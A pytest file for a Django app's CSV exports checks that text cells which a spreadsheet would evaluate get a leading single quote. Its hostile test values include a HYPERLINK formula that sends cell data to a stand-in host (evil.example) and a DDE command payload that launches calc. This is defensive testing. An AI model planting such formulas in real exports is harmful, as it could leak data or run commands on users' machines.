"""CSV formula injection: every CSV export writes a text cell that a spreadsheet would evaluate
(`=`, `+`, `-`, `@`, tab, carriage return first) with a single quote in front, through one
helper (h2htalk.csvexport); numbers stay numbers; JSONL exports are unchanged.

The CSV exports, found by grepping for `csv.writer` / `DictWriter` / `text/csv`:
campaign judgments (campaigns:export), responses (companions:response_export), scenarios
(scenarios:export), agreement tables (scoring:agreement_export, both tables) and the release
leaderboard (releases:export csv, also the benchmark_report command's file).
`test_no_csv_writer_outside_the_helper` keeps it that way.
"""

import csv
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from annotation import queue
from annotation.models import Judgment
from h2htalk.csvexport import safe_cell, text, unquote_cell
from scenarios.models import CompanionModel, GenerationRun, Response, Scenario
from scoring.models import Release
from tests.annotation import factories as campaign_factories
from tests.scenarios import factories
from tests.scoring.test_release_pipeline import make_release, rated_world

REPO = Path(__file__).resolve().parents[2]

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PAYLOADS = [HYPERLINK, "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def read(body: bytes | str) -> list[dict]:
    if isinstance(body, bytes):
        body = body.decode()
    return list(csv.DictReader(io.StringIO(body, newline="")))


def body_of(response) -> bytes:
    assert response.status_code == 200, response.status_code
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def assert_no_live_cell(rows: list[dict], numeric=()):
    """No text cell starts with a formula character (numeric columns hold plain numbers)."""
    assert rows
    for row in rows:
        for column, cell in row.items():
            if column in numeric and re.fullmatch(r"-?\d+(\.\d+)?(e-?\d+)?|", cell or ""):
                continue
            assert (cell or "")[:1] not in TRIGGERS, (column, cell)


# ------------------------------------------------------------------ the cell function


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_quote(payload):
    assert safe_cell(payload) == "'" + payload
    assert unquote_cell(safe_cell(payload)) == payload


@pytest.mark.parametrize("value", [-2, 3.5, -0.25, Decimal("-1.5"), 0, True, None, ""])
def test_numbers_pass_as_numbers(value):
    assert safe_cell(value) is value
    assert text(["x"], [{"x": -2}, {"x": -0.5}]) == "x\r\n-2\r\n-0.5\r\n"


def test_a_carriage_return_inside_a_cell_cannot_start_a_row():
    body = text(["a", "b"], [{"a": "ok\r=1+1", "b": "x"}])
    assert read(body) == [{"a": "ok\r=1+1", "b": "x"}]


@given(st.text(max_size=12))
def test_the_quote_round_trips_every_string(value):
    quoted = safe_cell(value)
    assert unquote_cell(quoted) == value
    assert quoted[:1] not in TRIGGERS


# ------------------------------------------------------------------ every export


@pytest.fixture
def hostile_campaign(researcher, django_user_model):
    raters = campaign_factories.annotators(django_user_model, 2, prefix="-rater")
    models = campaign_factories.companions(names=(HYPERLINK, "@SUM(1)", "plain"))
    campaign = campaign_factories.campaign(researcher, raters, n_scenarios=2, companions=models)
    for rater, rationale in zip(raters, ("\t=1+1", "-2+3"), strict=True):
        item = queue.next_assignment(rater, campaign)
        queue.submit(rater, item.key, queue.Submission(-1, rationale=rationale))
    return campaign


def test_campaign_judgment_export(researcher_client, hostile_campaign):
    rows = read(
        body_of(researcher_client.get(reverse("campaigns:export", args=[hostile_campaign.pk])))
    )
    numeric = {"comparison_id", "screen_preference", "preference", "both_unacceptable"}
    numeric |= {c for c in rows[0] if c.startswith(("a_", "b_")) or c.endswith("_ms")}
    numeric |= {"is_gold", "gold_preference"}
    assert_no_live_cell(rows, numeric)
    # The rationale's leading tab is gone by the time it is stored; what is left is quoted.
    stored = set(Judgment.objects.values_list("rationale", flat=True))
    assert {row["rationale"] for row in rows} == {safe_cell(value) for value in stored}
    assert {row["rationale"] for row in rows} == {"'=1+1", "'-2+3"}
    assert {row["annotator"] for row in rows} == {"'-rater0", "'-rater1"}
    names = {row["companion_a"] for row in rows} | {row["companion_b"] for row in rows}
    assert "'" + HYPERLINK in names or "'@SUM(1)" in names
    assert {row["screen_preference"] for row in rows} == {"-1"}  # a number, unquoted


@pytest.fixture
def hostile_bank(researcher):
    scenario = factories.scenario(
        researcher,
        tags=["-tag", "ok"],
        user_message=HYPERLINK,
        reference_response="+1+1",
        source="@SUM(1)",
        external_id="-2+3",
    )
    plain = factories.scenario(
        researcher, user_message="'=already quoted", reference_response="\r=1+1 and more"
    )
    model = CompanionModel.objects.create(name="=evil()", provider="imported")
    run = GenerationRun.objects.create(name="+run", kind="import")
    Response.objects.create(run=run, scenario=scenario, companion=model, text="-2+3")
    Response.objects.create(run=run, scenario=plain, companion=model, text="@SUM(1)", latency_ms=5)
    return [scenario, plain]


def test_response_export_csv_and_jsonl(researcher_client, hostile_bank):
    url = reverse("companions:response_export")
    rows = read(body_of(researcher_client.get(url, {"format": "csv"})))
    assert_no_live_cell(rows, {"prompt_tokens", "completion_tokens", "latency_ms"})
    assert {row["text"] for row in rows} == {"'-2+3", "'@SUM(1)"}
    assert {row["companion"] for row in rows} == {"'=evil()"}
    assert {row["run"] for row in rows} == {"'+run"}
    assert {row["external_id"] for row in rows} >= {"'-2+3"}
    assert {row["latency_ms"] for row in rows} == {"", "5"}
    # JSONL is untouched.
    lines = body_of(researcher_client.get(url, {"format": "jsonl"})).decode().splitlines()
    assert {json.loads(line)["text"] for line in lines} == {"-2+3", "@SUM(1)"}


def test_scenario_export_csv_quotes_and_round_trips(researcher_client, hostile_bank):
    from scenarios import services
    from scenarios.importers import import_file

    response = researcher_client.get(reverse("scenarios:export"), {"format": "csv"})
    content = body_of(response)
    rows = read(content)
    assert_no_live_cell(rows)
    by_id = {row["external_id"]: row for row in rows}
    row = by_id["'-2+3"]
    assert row["user_message"] == "'" + HYPERLINK
    assert row["reference_response"] == "'+1+1"
    assert row["source"] == "'@SUM(1)"
    assert row["tags"] == "'-tag;ok"
    other = next(r for r in rows if r is not row)
    assert other["user_message"] == "''=already quoted"  # so the importer can undo it exactly
    assert other["reference_response"] == "'\r=1+1 and more"

    # The importer undoes the quote: an export imports back into an empty database unchanged.
    before = {s.external_id: services.snapshot(s) for s in Scenario.objects.all()}
    Scenario.objects.all().delete()
    report = import_file(io.BytesIO(content), "export.csv")
    assert report.created == len(before), report.errors
    assert {s.external_id: services.snapshot(s) for s in Scenario.objects.all()} == before

    jsonl = body_of(researcher_client.get(reverse("scenarios:export"), {"format": "jsonl"}))
    records = [json.loads(line) for line in jsonl.decode().splitlines()]
    assert {r["user_message"] for r in records} == {HYPERLINK, "'=already quoted"}


@pytest.fixture
def hostile_release(researcher, django_user_model):
    raters = campaign_factories.annotators(django_user_model, 3, prefix="@rater")
    world = rated_world(researcher, raters, n_scenarios=8, names=(HYPERLINK, "+plus", "-minus"))
    made = make_release(world, n_boot=20)
    assert made.state == Release.State.READY, made.message
    return world, made


def test_agreement_and_release_exports(researcher_client, hostile_release):
    world, release = hostile_release
    url = reverse("scoring:agreement_export", args=[world.campaign.pk, "csv"])
    alpha = read(body_of(researcher_client.get(url)))
    annotators = read(body_of(researcher_client.get(url, {"table": "annotators"})))
    numeric = set(alpha[0]) - {"scope", "group", "label", "level", "ci"}
    assert_no_live_cell(alpha, numeric)
    numeric = set(annotators[0]) - {"annotator"}
    assert_no_live_cell(annotators, numeric)
    assert {row["annotator"] for row in annotators} == {"'@rater0", "'@rater1", "'@rater2"}

    url = reverse("releases:export", args=[release.pk, "csv"])
    rows = read(body_of(researcher_client.get(url)))
    numeric = {c for c in rows[0] if c not in {"release", "fingerprint", "scope", "group"}}
    numeric -= {"companion", "human_better_than", "judge_better_than", "human_note"}
    numeric -= {"judge_note", "level", "is_anchor"}
    assert_no_live_cell(rows, numeric)
    assert {row["companion"] for row in rows} == {"'" + HYPERLINK, "'+plus", "'-minus"}
    assert any(row["human_better_than"].startswith("'") for row in rows)
    assert all(float(row["human_elo"]) > 0 for row in rows if row["human_elo"])  # unquoted


def test_no_csv_writer_outside_the_helper():
    """Every CSV export goes through h2htalk/csvexport.py (no other csv.writer in the code)."""
    offenders = []
    for folder in ("h2htalk", "scenarios", "annotation", "scoring"):
        for path in (REPO / folder).rglob("*.py"):
            if path.name == "csvexport.py" or "migrations" in path.parts:
                continue
            if re.search(r"csv\.(writer|DictWriter)\b", path.read_text()):
                offenders.append(str(path.relative_to(REPO)))
    assert offenders == []
